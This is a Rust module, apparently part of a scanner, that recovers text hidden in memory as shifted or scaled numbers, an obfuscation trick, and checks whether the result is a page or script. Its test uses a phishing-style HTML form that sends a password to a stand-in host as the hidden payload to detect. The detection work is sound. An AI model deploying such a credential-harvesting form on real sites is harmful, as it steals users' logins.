//! Text that lies in memory as numbers, floats or integers. Each number is a character plus something, the
//! same for all, or minus it.
//!
//! Such numbers stand close together, many of them different. What was added is found by trying: few values
//! are left if all numbers are to be characters of text.
//!
//! Costs a pass over what changed in memory for each width, as far as there is room.

use std::collections::BTreeSet;

use super::{
    fs::Contents,
    limits::{RETURNED_SCAN, SHIFTED_HEAD, SHIFTED_LEAST, SHIFTED_SCANNED, SHIFTED_TRIED},
};

/// Different numbers that a text has at least.
const DIFFERENT: usize = 12;
/// How far its least and its most are apart at least: a blank and a letter.
const SPAN: i64 = 64;
/// The first and the last character of text without accents.
const FIRST: i64 = 9;
const LAST: i64 = 126;
/// What is no larger than this is an integer, and no float.
const INTEGER: u32 = 1 << 20;

/// Looks for such text.
#[derive(Debug, Default)]
pub(super) struct Shifted {
    scanned: usize,
    tried: usize,
}

impl Shifted {
    /// The pages, commands and scripts in a part of memory.
    pub(super) fn look(&mut self, memory: &[u8]) -> Vec<Vec<u8>> {
        let mut found = Vec::new();
        if self.scanned + memory.len() > SHIFTED_SCANNED {
            return found;
        }
        self.scanned += memory.len();
        let (eights, fours) = (memory.as_chunks::<8>().0, memory.as_chunks::<4>().0);
        let twos = memory.as_chunks::<2>().0;
        let is_float = |bytes: [u8; 4]| i32::from_le_bytes(bytes).unsigned_abs() > INTEGER;
        let float = |bytes: [u8; 4]| whole(f32::from_le_bytes(bytes).into()).filter(|_| is_float(bytes));
        within(eights.len(), |at| whole(f64::from_le_bytes(eights[at])), &mut found, &mut self.tried);
        within(fours.len(), |at| float(fours[at]), &mut found, &mut self.tried);
        within(fours.len(), |at| Some(i32::from_le_bytes(fours[at]).into()), &mut found, &mut self.tried);
        within(twos.len(), |at| Some(u16::from_le_bytes(twos[at]).into()), &mut found, &mut self.tried);
        scaled(eights.len(), |at| whole(f64::from_le_bytes(eights[at])), &mut found, &mut self.tried);
        scaled(fours.len(), |at| float(fours[at]), &mut found, &mut self.tried);
        scaled(fours.len(), |at| Some(i32::from_le_bytes(fours[at]).into()), &mut found, &mut self.tried);
        scaled(twos.len(), |at| Some(u16::from_le_bytes(twos[at]).into()), &mut found, &mut self.tried);
        found
    }
}

/// Numbers as far as they may be characters that are all as many times as large, and how far apart they are.
#[derive(Debug, Default)]
struct Scale {
    first: i64,
    least: i64,
    most: i64,
    step: i64,
}

impl Scale {
    fn at(first: i64) -> Self {
        Self { first, least: first, most: first, step: 0 }
    }

    /// The same with another number, if it fits.
    fn and(&self, next: i64) -> Option<Self> {
        let step = common_divisor(self.step, next.checked_sub(self.first)?.checked_abs()?);
        let (least, most) = (self.least.min(next), self.most.max(next));
        let fits = step == 0 || most.checked_sub(least)? / step <= LAST - FIRST;
        fits.then_some(Self { first: self.first, least, most, step })
    }
}

fn common_divisor(one: i64, other: i64) -> i64 {
    if other == 0 { one } else { common_divisor(other, one % other) }
}

/// Adds the texts in runs of numbers that have a common factor.
fn scaled(len: usize, number: impl Fn(usize) -> Option<i64>, found: &mut Vec<Vec<u8>>, tried: &mut usize) {
    let (mut start, mut scale): (usize, Option<Scale>) = (0, None);
    for at in 0..=len {
        let next = if at < len { number(at).filter(|number| *number != 0) } else { None };
        let goes_on = match (&scale, next) {
            (Some(scale), Some(next)) if at - start < RETURNED_SCAN => scale.and(next),
            _ => None,
        };
        if goes_on.is_some() {
            scale = goes_on;
            continue;
        }
        if at - start >= SHIFTED_LEAST && scale.is_some() {
            let numbers: Vec<i64> = (start..at).filter_map(&number).collect();
            found.extend(unscaled(&numbers, tried));
        }
        (start, scale) = (at, next.map(Scale::at));
    }
}

/// The text that numbers are if each is a character times something and something more, or less than that.
pub(super) fn unscaled(numbers: &[i64], tried: &mut usize) -> Option<Vec<u8>> {
    let scale =
        numbers.iter().skip(1).try_fold(Scale::at(*numbers.first()?), |scale, &next| scale.and(next))?;
    let Scale { least, most, step, .. } = scale;
    let span = (most - least).checked_div(step).filter(|span| *span >= SPAN)?;
    let forward: Vec<i64> = numbers.iter().map(|number| (number - least) / step).collect();
    // As they stand they are found elsewhere.
    let text_forward = if step > 1 { text(&forward, 0, span, tried) } else { None };
    let backward = || {
        let backward: Vec<i64> = forward.iter().map(|number| span - number).collect();
        text(&backward, 0, span, tried)
    };
    text_forward.or_else(backward)
}

/// The whole number that a float is.
fn whole(value: f64) -> Option<i64> {
    (value.fract() == 0.0 && value.abs() < 1e9).then_some(value as i64)
}

/// Adds the texts in runs of numbers that stand close together; zeros are between them.
fn within(len: usize, number: impl Fn(usize) -> Option<i64>, found: &mut Vec<Vec<u8>>, tried: &mut usize) {
    let (mut start, mut least, mut most) = (0, 0, 0);
    for at in 0..=len {
        let next = if at < len { number(at).filter(|number| *number != 0) } else { None };
        if let Some(next) = next
            && at > start
            && at - start < RETURNED_SCAN
            && most.max(next) - least.min(next) <= LAST - FIRST
        {
            (least, most) = (least.min(next), most.max(next));
            continue;
        }
        if at - start >= SHIFTED_LEAST && most - least >= SPAN {
            let numbers: Vec<i64> = (start..at).filter_map(&number).collect();
            found.extend(text(&numbers, least, most, tried));
        }
        (start, least, most) = next.map_or((at + 1, 0, 0), |next| (at, next, next));
    }
}

/// What numbers are if as much is taken away from each as makes something of them. Those that are characters
/// as they stand are found elsewhere.
fn text(numbers: &[i64], least: i64, most: i64, tried: &mut usize) -> Option<Vec<u8>> {
    let different: BTreeSet<_> = numbers.iter().collect();
    if least >= FIRST && most <= LAST || different.len() < DIFFERENT {
        return None;
    }
    let by = (most - LAST)..=(least - FIRST);
    let less = |by: i64| numbers.iter().map(|number| (number - by) as u8).collect::<Vec<u8>>();
    let is_plain = |text: &Vec<u8>| text.iter().all(|byte| matches!(byte, 9 | 10 | 13 | 32..=126));
    by.map(less).filter(is_plain).take(SHIFTED_TRIED.saturating_sub(*tried)).find(|text| {
        *tried += 1;
        let head = text.get(..SHIFTED_HEAD).unwrap_or(text);
        Contents::of_handed(head).is_some_and(|contents| contents != Contents::Archive)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const PAGE: &str =
        "<form action='https://c.example.invalid/in'>Password <input type='password' name='p'></form>";
    const PROSE: &str = "The beds are planted, and the water tank was delivered on Monday, says the report.";

    #[test]
    fn what_has_to_be_taken_away_is_found() {
        let numbers =
            |text: &str, by: i64| text.bytes().map(move |byte| i64::from(byte) + by).collect::<Vec<_>>();
        for by in [1000, -500, 7] {
            let floats: Vec<u8> =
                numbers(PAGE, by).iter().flat_map(|number| (*number as f64).to_le_bytes()).collect();
            let words: Vec<u8> =
                numbers(PAGE, by).iter().flat_map(|number| (*number as i32).to_le_bytes()).collect();
            for memory in [floats, words] {
                let memory = [vec![0; 64], memory, vec![0; 64]].concat();
                let found = Shifted::default().look(&memory);
                assert!(found.iter().any(|text| text == PAGE.as_bytes()), "{by}");
            }
        }
        let times = |by: i64| PAGE.bytes().map(move |byte| i64::from(byte) * by + 2000).collect::<Vec<_>>();
        for by in [3, 7, -1, -5] {
            let words: Vec<u8> = times(by).iter().flat_map(|number| (*number as u16).to_le_bytes()).collect();
            let memory = [vec![0; 64], words, vec![0; 64]].concat();
            let found = Shifted::default().look(&memory);
            assert!(found.iter().any(|text| text == PAGE.as_bytes()), "times {by}");
        }
        let prose: Vec<u8> =
            numbers(PROSE, 1000).iter().flat_map(|number| (*number as f64).to_le_bytes()).collect();
        assert_eq!(Shifted::default().look(&prose), Vec::<Vec<u8>>::new());
    }
}
